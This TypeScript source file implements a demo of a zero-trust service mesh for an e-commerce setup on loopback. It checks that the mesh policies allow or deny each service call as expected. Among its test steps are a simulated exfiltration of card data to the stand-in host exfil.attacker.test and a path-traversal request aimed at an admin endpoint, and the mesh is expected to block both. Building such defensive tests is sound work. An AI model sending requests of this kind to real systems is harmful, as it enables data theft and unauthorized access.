/**
 * `ztmesh demo`: a zero-trust e-commerce platform on loopback. Starts the control plane,
 * five services (each a tiny app behind its own sidecar) plus the storefront's sidecar,
 * drives traffic, and prints which calls the mesh allowed and which it refused.
 */
import http from 'node:http';
import { spawn, type ChildProcess } from 'node:child_process';
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { LocalMesh } from '../control/launcher.js';
import type { SidecarHandle } from '../control/launcher.js';
import { paint, renderTable, terminalWidth } from '../cli/output.js';
import { freePort } from '../util/net.js';
export { freePort };
import type { Writer } from '../cli/output.js';

const EXAMPLES = resolve(fileURLToPath(new URL('../../../examples/ecommerce', import.meta.url)));
const NS = 'production';
const SERVICES = ['user-service', 'product-catalog', 'order-service', 'payment-service', 'shipping-service'] as const;
type Svc = (typeof SERVICES)[number] | 'web-frontend';

export interface DemoOptions {
  once: boolean;
  stdout: Writer;
  stderr: Writer;
  /** Keep the working directory (logs, certificates) after exit. */
  keep?: boolean;
}

interface CallResult {
  status: number | 'refused';
  body: string;
  ms: number;
}

interface Step {
  caller: string;
  target: string;
  request: string;
  expect: 'allowed' | 'denied' | 'refused';
  why: string;
  run: () => Promise<CallResult>;
  /** Custom verdict (default: by status). */
  judge?: (r: CallResult) => boolean;
  note?: (r: CallResult) => string;
}

/** Send a request the way an app does: to its own sidecar's outbound proxy, absolute-form. */
export function viaProxy(proxyPort: number, method: string, url: string, body?: string): Promise<CallResult> {
  const started = performance.now();
  return new Promise((resolve) => {
    const u = new URL(url);
    const req = http.request({ host: '127.0.0.1', port: proxyPort, method, path: url, headers: { host: u.host, ...(body ? { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } : {}) }, agent: false }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text, ms: performance.now() - started }));
    });
    req.on('error', (e) => resolve({ status: 'refused', body: e.message, ms: performance.now() - started }));
    req.end(body);
  });
}

/** A plaintext client that bypasses the mesh and connects straight to a sidecar's port. */
function plaintext(port: number, method: string, path: string): Promise<CallResult> {
  const started = performance.now();
  return new Promise((resolve) => {
    const req = http.request({ host: '127.0.0.1', port, method, path, agent: false, timeout: 3000 }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text, ms: performance.now() - started }));
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', (e) => resolve({ status: 'refused', body: (e as NodeJS.ErrnoException).code ?? e.message, ms: performance.now() - started }));
    req.end();
  });
}

function outcome(r: CallResult): 'allowed' | 'denied' | 'refused' {
  if (r.status === 'refused') return 'refused';
  return r.status === 403 || r.status === 502 ? 'denied' : r.status >= 200 && r.status < 300 ? 'allowed' : 'denied';
}

export async function runDemo(o: DemoOptions): Promise<number> {
  const w = o.stdout;
  const say = (s: string) => o.stderr.write(s + '\n');
  const dir = mkdtempSync(join(tmpdir(), 'ztmesh-demo-'));
  const cfg = join(dir, 'config');
  cpSync(join(EXAMPLES, 'policies'), cfg, { recursive: true });
  let apps: ChildProcess | undefined;
  const mesh = new LocalMesh(join(dir, 'run'), [cfg]);
  const cleanup = async () => {
    await mesh.stopAll().catch(() => undefined);
    apps?.kill('SIGTERM');
    if (!o.keep) rmSync(dir, { recursive: true, force: true });
  };
  try {
    // Apps first (on free loopback ports), so each sidecar knows where its app is.
    const appPorts: Record<string, number> = {};
    for (const s of [...SERVICES, 'partner-api']) appPorts[s] = await freePort();
    const orderProxy = await freePort();
    // A partner API outside the mesh, reachable only through a ServiceEntry.
    writeFileSync(
      join(cfg, '60-egress-partner.yaml'),
      `# Egress: order-service may reach the partner API outside the mesh; every other host is refused.
apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata:
  name: partner-api
  namespace: ${NS}
spec:
  hosts: ["api.partner.test"]
  location: MESH_EXTERNAL
  ports: [{number: 80, name: http, protocol: HTTP, targetPort: ${appPorts['partner-api']}}]
  resolution: STATIC
  endpoints: [{address: 127.0.0.1}]
`,
    );
    say(paint(o.stderr, 'bold', 'ztmesh demo: a zero-trust e-commerce platform on loopback'));
    say(`  working directory ${dir}`);
    apps = spawn(process.execPath, [join(EXAMPLES, 'apps', 'apps.mjs'), JSON.stringify(appPorts), JSON.stringify({ 'order-service': { proxy: `http://127.0.0.1:${orderProxy}` } })], { stdio: ['ignore', 'pipe', 'inherit'] });
    await new Promise<void>((res, rej) => {
      apps!.stdout!.once('data', () => res());
      apps!.once('exit', (c) => rej(new Error(`the demo apps exited (${c})`)));
    });
    say('  ✓ apps started: ' + SERVICES.join(', '));
    const cp = await mesh.startControl();
    say(`  ✓ control plane: mTLS 127.0.0.1:${cp.port}, admin http://127.0.0.1:${cp.adminPort}, CA for ${cp.trustDomain}`);
    const sc: Partial<Record<Svc, SidecarHandle>> = {};
    await Promise.all(
      [...SERVICES, 'web-frontend' as const].map(async (name) => {
        sc[name] = await mesh.startSidecar({
          service: name,
          namespace: NS,
          serviceAccount: name,
          labels: { app: name },
          appPort: name === 'web-frontend' ? appPorts['user-service'] : appPorts[name],
          servicePort: 8080,
          extraArgs: name === 'order-service' ? ['--outbound-port', String(orderProxy)] : [],
        });
      }),
    );
    await mesh.waitInSync();
    say(`  ✓ 6 sidecars with SPIFFE identities, configuration in sync`);
    say('');

    const as = (svc: Svc, method: string, url: string, body?: string) => () => viaProxy(sc[svc]!.ports.outbound, method, url, body);
    const ORDER_ID = 'spiffe://cluster.local/ns/production/sa/order-service';
    const steps: Step[] = [
      { caller: 'web-frontend', target: 'user-service', request: 'GET /api/v1/users/42', expect: 'allowed', why: 'storefront reads a profile', run: as('web-frontend', 'GET', 'http://user-service:8080/api/v1/users/42') },
      { caller: 'web-frontend', target: 'order-service', request: 'POST /api/v1/orders', expect: 'allowed', why: 'order calls catalog + payment', run: as('web-frontend', 'POST', 'http://order-service:8080/api/v1/orders', '{"product":7}') },
      { caller: 'web-frontend', target: 'shipping-service', request: 'GET /api/v1/shipments/9', expect: 'allowed', why: 'storefront tracks a parcel', run: as('web-frontend', 'GET', 'http://shipping-service:8080/api/v1/shipments/9') },
      { caller: 'order-service', target: 'product-catalog', request: 'GET /api/v1/products/7', expect: 'allowed', why: 'explicit allow', run: as('order-service', 'GET', 'http://product-catalog:8080/api/v1/products/7') },
      { caller: 'order-service', target: 'payment-service', request: 'POST /api/v1/charges', expect: 'allowed', why: 'explicit allow', run: as('order-service', 'POST', 'http://payment-service:8080/api/v1/charges', '{"amount":1999}') },
      { caller: 'order-service', target: 'user-service', request: 'GET /api/v1/users', expect: 'denied', why: 'compromised order: default deny', run: as('order-service', 'GET', 'http://user-service:8080/api/v1/users') },
      { caller: 'order-service', target: 'payment-service', request: 'POST /admin/export', expect: 'denied', why: 'compromised order: DENY /admin', run: as('order-service', 'POST', 'http://payment-service:8080/admin/export') },
      { caller: 'order-service', target: 'payment-service', request: 'GET /api/v1/charges', expect: 'denied', why: 'compromised order: only POST', run: as('order-service', 'GET', 'http://payment-service:8080/api/v1/charges') },
      { caller: 'order-service', target: 'payment-service', request: 'POST /api/v1/charges/../../../admin/x', expect: 'denied', why: 'normalized to /admin/x', run: as('order-service', 'POST', 'http://payment-service:8080/api/v1/charges/../../../admin/x') },
      { caller: 'order-service', target: 'product-catalog', request: 'PUT /api/v1/products/7', expect: 'denied', why: 'compromised order: read-only', run: as('order-service', 'PUT', 'http://product-catalog:8080/api/v1/products/7', '{"price":1}') },
      { caller: 'web-frontend', target: 'payment-service', request: 'POST /api/v1/charges', expect: 'denied', why: 'only order-service may charge', run: as('web-frontend', 'POST', 'http://payment-service:8080/api/v1/charges', '{"amount":1}') },
      { caller: 'plaintext client', target: 'payment-service', request: 'POST /api/v1/charges', expect: 'refused', why: 'STRICT mTLS: plaintext reset', run: () => plaintext(sc['payment-service']!.ports.inbound, 'POST', '/api/v1/charges') },
      { caller: 'order-service', target: 'api.partner.test', request: 'GET /v1/rates', expect: 'allowed', why: 'egress via ServiceEntry', run: as('order-service', 'GET', 'http://api.partner.test/v1/rates') },
      { caller: 'order-service', target: 'exfil.attacker.test', request: 'POST /upload', expect: 'denied', why: 'egress: no ServiceEntry', run: as('order-service', 'POST', 'http://exfil.attacker.test/upload', '{"cards":"..."}') },
    ];

    const rows: string[][] = [];
    let failures = 0;
    const record = (s: Step, r: CallResult) => {
      const got = outcome(r);
      const ok = s.judge ? s.judge(r) : got === s.expect;
      if (!ok) failures++;
      const status = r.status === 'refused' ? r.body : String(r.status);
      const col = got === 'allowed' ? 'green' : 'red';
      rows.push([String(rows.length + 1), `${s.caller} → ${s.target}`, s.request, paint(w, col, `${got} ${status}`), ok ? paint(w, 'green', '✓') : paint(w, 'red', `✗ expected ${s.expect}`), s.note?.(r) || s.why]);
    };
    for (const s of steps) record(s, await s.run());

    // Quarantine: an incident responder cuts order-service off without a policy review.
    const qStart = performance.now();
    await mesh.admin('POST', '/v1/quarantine', { spiffeId: ORDER_ID });
    let q: CallResult = { status: 0, body: '', ms: 0 };
    while (performance.now() - qStart < 5000) {
      q = await viaProxy(sc['order-service']!.ports.outbound, 'POST', 'http://payment-service:8080/api/v1/charges', '{"amount":1}');
      if (q.status === 403) break;
      await new Promise((r) => setTimeout(r, 20));
    }
    const qMs = performance.now() - qStart;
    record({ caller: 'order-service', target: 'payment-service', request: 'POST /api/v1/charges', expect: 'denied', why: '', run: async () => q, judge: (r) => r.status === 403 && qMs <= 1000, note: () => `quarantined: denied after ${Math.round(qMs)} ms` }, q);
    await mesh.admin('POST', '/v1/quarantine', { spiffeId: ORDER_ID, lift: true });
    let lifted: CallResult = { status: 0, body: '', ms: 0 };
    const lStart = performance.now();
    while (performance.now() - lStart < 5000) {
      lifted = await viaProxy(sc['order-service']!.ports.outbound, 'POST', 'http://payment-service:8080/api/v1/charges', '{"amount":1}');
      if (lifted.status === 201) break;
      await new Promise((r) => setTimeout(r, 20));
    }
    record({ caller: 'order-service', target: 'payment-service', request: 'POST /api/v1/charges', expect: 'allowed', why: 'quarantine lifted', run: async () => lifted }, lifted);

    w.write(renderTable(['#', 'call', 'request', 'result', '', 'why'], rows, Math.max(terminalWidth(w), 132)));
    const total = rows.length;
    w.write(`\n${total - failures} passed, ${failures} failed\n`);
    if (failures) w.write(paint(w, 'red', `✗ ${failures} expectation${failures === 1 ? '' : 's'} did not hold (logs: ${dir}/run)\n`));
    else w.write(paint(w, 'green', '✓ every call went exactly as the policies say\n'));

    if (o.once) return failures ? 1 : 0;
    w.write(`\nThe mesh keeps running. Try:\n`);
    w.write(`  npx ztmesh status --admin http://127.0.0.1:${cp.adminPort}\n`);
    w.write(`  curl -x http://127.0.0.1:${sc['order-service']!.ports.outbound} http://payment-service:8080/api/v1/charges -X POST\n`);
    w.write(`  npx ztmesh quarantine ${ORDER_ID} --admin http://127.0.0.1:${cp.adminPort}\n`);
    w.write(`Metrics: ${[...SERVICES, 'web-frontend' as const].map((s) => `${s} http://127.0.0.1:${sc[s]!.ports.admin}/metrics`).join('\n         ')}\n`);
    w.write(`Access logs and process logs: ${join(dir, 'run')}${o.keep ? '' : ' (removed on exit; --keep keeps them)'}\nPress Ctrl-C to stop.\n`);
    await new Promise<void>((r) => {
      process.once('SIGINT', () => r());
      process.once('SIGTERM', () => r());
    });
    return failures ? 1 : 0;
  } finally {
    await cleanup();
  }
}
